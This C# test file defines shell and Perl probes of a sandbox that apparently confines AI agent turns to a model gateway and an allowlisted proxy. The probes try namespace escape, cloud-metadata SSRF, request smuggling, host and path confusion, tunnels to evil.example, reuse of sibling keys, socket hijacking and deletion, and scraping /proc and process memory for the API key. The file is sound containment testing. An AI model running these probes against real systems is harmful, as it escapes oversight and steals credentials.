namespace Orchestrator.Engine.Tests.Fence;

/// <summary>
/// What can be tried where there is no network but the model: to reach others, to ask the model for more than
/// messages or in another's name, to be let through to hosts that are on no list, and to come by the key.
/// </summary>
internal static class NetworkActs
{
    /// <summary>
    /// Words for the scripts. <c>ask WHERE TEXT</c> says a text (with \r, \n, \t and \0) at a socket or a port and prints
    /// the answer; <c>message KEY [HEADERS]</c> is a request for a message; <c>let_in</c> and <c>let_through</c> print the
    /// canary when the gateway or the proxy says yes.
    /// </summary>
    public const string Words = """
        M=/run/orchestrator/model F=/run/orchestrator/feeds
        ask() { perl -MIO::Socket::UNIX -MIO::Socket::INET -e 'my ($to, $text) = @ARGV; my %c = (r => "\r", n => "\n", t => "\t", 0 => "\0"); $text =~ s/\\([rnt0])/$c{$1}/g; $to =~ s/^@/\0/; alarm 1; my $s = $to =~ m{^[/\0]} ? IO::Socket::UNIX->new(Peer => $to) : IO::Socket::INET->new(PeerAddr => $to); $s or exit 1; print $s $text; $s->flush; while (sysread $s, my $b, 4096) { print $b; last if $b =~ /^HTTP.1.1 200 Conn/ }' "$@"; }
        message() { printf '%s' "POST ${3:-/v1/messages} HTTP/1.1\r\nHost: ${4:-x}\r\nx-api-key: $1\r\n$2Connection: close\r\nContent-Length: 2\r\n\r\n{}"; }
        let_in() { ask "$@" | grep -a '^HTTP/1.1 2' && echo canary-7f''3a91; }
        let_through() { let_in $F "CONNECT $1 HTTP/1.1\r\nHost: x\r\n\r\n"; }

        """;

    /// <summary>A message that is right in all but one thing must not be let in; one that is merely dressed up may be, and what is evil in it stays behind.</summary>
    public static readonly (string Name, string Script)[] All =
    [
        ("a service on this machine", "ask 127.0.0.1:$HOST_TCP hello"),
        ("a service on this machine, by its name", "ask localhost:$HOST_TCP hello; ask $(hostname):$HOST_TCP hello; ask 0.0.0.0:$HOST_TCP hello"),
        ("a datagram", "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => \"127.0.0.1:$ENV{HOST_UDP}\", Proto => \"udp\")->send(\"hello\")'"),
        ("a socket without a file", "ask \"@$HOST_NAMELESS\" hello"),
        ("the provider without the gateway", "ask $PROVIDER \"$(message evil)\""),
        ("a network of its own", "ip link add evil type dummy; ip addr add 127.0.0.1/8 dev lo; ip link set lo up; ip route add default dev lo; ask 127.0.0.1:$HOST_TCP hello"),
        ("the network of whoever started it", "nsenter --net=/proc/1/ns/net true; nsenter -t $PPID -n true; nsenter -t $OUTSIDER -n perl -e 'print 1' && echo canary-7f''3a91; ask 127.0.0.1:$HOST_TCP hello"),
        ("metadata of a cloud", "let_in 169.254.169.254:80 'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n'"),
        ("metadata of a cloud by the proxy", "let_through 169.254.169.254:80; let_through metadata.google.internal:80; let_through '[fd00:ec2::254]:80'"),
        ("metadata of a cloud by the gateway", "let_in $M \"$(message $ANTHROPIC_API_KEY '' http://169.254.169.254/latest/meta-data/)\"; let_in $M 'GET http://169.254.169.254/latest/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n'"),

        ("no key", "let_in $M 'POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\n\\r\\n{}'"),
        ("a wrong key", "let_in $M \"$(message sk-ant-dummy-1A-1-00000000000000000000000000000000)\""),
        ("a key that is half right", "let_in $M \"$(message ${ANTHROPIC_API_KEY%?})\"; let_in $M \"$(message ${ANTHROPIC_API_KEY}0)\"; let_in $M \"$(message $(echo $ANTHROPIC_API_KEY | tr a-z A-Z))\""),
        ("the key of a turn that has ended", "let_in $M \"$(message $ENDED_KEY)\""),
        ("the key of another turn", "let_in $M \"$(message $SIBLING_KEY)\""),
        ("the key of another turn as a token", "let_in $M \"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer $SIBLING_KEY\\r\\nContent-Length: 2\\r\\n\\r\\n{}\""),
        ("two keys", "let_in $M \"$(message $ANTHROPIC_API_KEY \"x-api-key: $SIBLING_KEY\\r\\n\")\"; let_in $M \"$(message $ANTHROPIC_API_KEY \"Authorization: Bearer $SIBLING_KEY\\r\\n\")\""),
        ("the socket of another worktree", "let_in \"$SIBLING_SOCKET\" \"$(message $SIBLING_KEY)\"; let_in \"$SIBLING_SOCKET\" \"$(message $ANTHROPIC_API_KEY)\"; let_in /proc/1/root$SIBLING_SOCKET \"$(message $SIBLING_KEY)\""),
        ("the folder of the sockets", "ls -la \"$SOCKETS\" && echo canary-7f''3a91; rm -rf \"$SOCKETS\""),
        ("the sockets taken away", "rm -f $M $F; mv $M /tmp/m; : > $M; ln -sf /tmp/evil $M; umount $M; chmod 777 $M; false"),
        ("a socket put in its place", "perl -MIO::Socket::UNIX -e 'unlink \"/run/orchestrator/model\"; IO::Socket::UNIX->new(Local => \"/run/orchestrator/model\", Listen => 1) and print \"canary\", \"-7f3a91\\n\"'"),

        ("other things than messages", "for p in /v1/models /v1/files /v1/organizations/x /v1/messages/batches /v1/complete /api/oauth/usage /api/hello /; do let_in $M \"$(message $ANTHROPIC_API_KEY '' $p)\"; done"),
        ("other words than POST", "for w in GET PUT PATCH DELETE OPTIONS TRACE post; do let_in $M \"$w /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: $ANTHROPIC_API_KEY\\r\\n\\r\\n\"; done"),
        ("ways around the path", "for p in //v1/messages /v1//messages /v1/messages/ /v1/messages/../models /v1/%6dessages /V1/messages '/v1/messages;x' /v1/messages%2f..%2fmodels /v1/./messages '/v1\\\\messages'; do let_in $M \"$(message $ANTHROPIC_API_KEY '' \"$p\")\"; done"),
        ("a whole address", "let_in $M \"$(message $ANTHROPIC_API_KEY '' http://127.0.0.1:$HOST_TCP/v1/messages)\"; let_in $M \"$(message $ANTHROPIC_API_KEY '' http://evil.example/v1/messages)\"; let_in $M \"$(message $ANTHROPIC_API_KEY '' //evil.example/v1/messages)\""),
        ("a path that becomes a host", "for p in @127.0.0.1:$HOST_TCP/v1/messages :$HOST_TCP/v1/messages .evil.example/v1/messages; do let_in $M \"$(message $ANTHROPIC_API_KEY '' $p)\"; done"),
        ("another host", "ask $M \"$(message $ANTHROPIC_API_KEY '' '' 127.0.0.1:$HOST_TCP)\"; ask $M \"$(message $ANTHROPIC_API_KEY 'X-Forwarded-Host: 127.0.0.1\\r\\n' '' localhost:$HOST_TCP)\"; true"),
        ("two hosts", "let_in $M \"$(message $ANTHROPIC_API_KEY 'Host: evil.example\\r\\n')\""),
        ("a tunnel through the gateway", "let_in $M \"CONNECT 127.0.0.1:$HOST_TCP HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: $ANTHROPIC_API_KEY\\r\\n\\r\\n\""),
        ("another protocol", "ask $M \"$(message $ANTHROPIC_API_KEY 'Upgrade: evil\\r\\nConnection: Upgrade\\r\\n')\"; let_in $M 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'; ask $M 'evil\\r\\n\\r\\n'"),
        ("the real key taken out by name", "ask $M \"$(message $ANTHROPIC_API_KEY 'Connection: x-api-key, authorization\\r\\nConnection: host\\r\\n')\""),
        ("the key asked back", "ask $M \"$(message $ANTHROPIC_API_KEY 'Access-Control-Request-Headers: x-api-key\\r\\nMax-Forwards: 0\\r\\n')\"; ask $M \"TRACE / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\"; true"),
        ("headers of its own", "ask $M \"$(message $ANTHROPIC_API_KEY 'Cookie: evil\\r\\nProxy-Authorization: evil\\r\\nTE: evil\\r\\n')\""),
        ("two requests in one", "let_in $M \"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: $ANTHROPIC_API_KEY\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: evil\\r\\n\\r\\n\""),
        ("a header in two lines", "let_in $M \"$(message $ANTHROPIC_API_KEY 'X: a\\n Host: evil\\r\\n')\"; let_in $M \"$(message $ANTHROPIC_API_KEY 'X: a\\0b\\r\\n')\"; let_in $M \"$(message $ANTHROPIC_API_KEY '' '/v1/messages\\0evil')\""),
        ("all the gateway's room", "perl -MIO::Socket::UNIX -e 'for (1 .. 300) { my $s = IO::Socket::UNIX->new(Peer => \"/run/orchestrator/model\", Timeout => 1) or last; print $s \"POST \"; $s->flush; push @all, $s }'"),

        ("a host on no list", "let_through evil.example:443; let_through localhost:22; let_through feed.invalid:80"),
        ("a host of the list that lies on this machine", "let_through localhost:$HOST_TCP; let_through LOCALHOST:$HOST_TCP"),
        ("a number for a host", "for h in 127.0.0.1 2130706433 0x7f.1 0177.0.0.1 127.1 0.0.0.0 '[::1]' '[::ffff:127.0.0.1]'; do let_through \"$h:$HOST_TCP\"; done"),
        ("a name that looks like one of the list", "for h in feed.invalid. FEED.INVALID feed.invalid.evil.example evil-feed.invalid 'feed.invalid\\0.evil.example' 'evil.example\\0feed.invalid' 'feed.invalid\\t' 'feed.invalid%00.evil' ' feed.invalid'; do let_through \"$h:443\"; done"),
        ("a user before the host", "let_through \"feed.invalid:443@127.0.0.1:$HOST_TCP\"; let_through \"user@localhost:$HOST_TCP\"; let_through \"feed.invalid:443#@localhost:$HOST_TCP\""),
        ("no tunnel but a request", "let_in $F \"GET http://127.0.0.1:$HOST_TCP/ HTTP/1.1\\r\\nHost: feed.invalid\\r\\n\\r\\n\"; let_in $F \"GET / HTTP/1.1\\r\\nHost: localhost:$HOST_TCP\\r\\n\\r\\n\""),
        ("one host said and another meant", "let_in $F \"CONNECT feed.invalid:443 HTTP/1.1\\r\\nHost: localhost:$HOST_TCP\\r\\n\\r\\n\"; let_in $F \"CONNECT evil.example:443 HTTP/1.1\\r\\nHost: feed.invalid:443\\r\\n\\r\\n\""),
        ("the gateway by the proxy", "let_through 127.0.0.1:8099; let_through \"$PROVIDER\"; let_in $F \"$(message $ANTHROPIC_API_KEY)\""),
        ("mail, files and names", "for h in 127.0.0.1:25 127.0.0.1:53 localhost:445; do let_through $h; done"),

        ("the key in the environment", "env; set"),
        ("the key in what others were started with", "cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'; cat /proc/1/environ /proc/$PPID/environ"),
        ("the key in the memory of others", "for p in /proc/[0-9]*; do head -c 1 $p/mem; perl -e 'open F, \"<\", \"$ARGV[0]/mem\" or exit; open M, \"<\", \"$ARGV[0]/maps\"; while (<M>) { /^(\\w+)-(\\w+) rw/ or next; seek F, hex $1, 0; read F, $b, 4e6; print \"found $&\\n\" if $b =~ /canary-7[f]3a91/ }' $p; done | sed 's/^found.*/canary-7f'3a91/; true"),
        ("the key on the disk", "grep -rs canary-7f \"$HOME\" \"$TMPDIR\" /tmp /run /etc /dev/shm 2>/dev/null; true"),
        ("the key in what the gateway answers", "ask $M \"$(message wrong)\"; ask $M 'rubbish\\r\\n\\r\\n'; ask $M \"$(message $ANTHROPIC_API_KEY '' /v1/models)\"; ask $F 'rubbish\\r\\n\\r\\n'"),
    ];
}
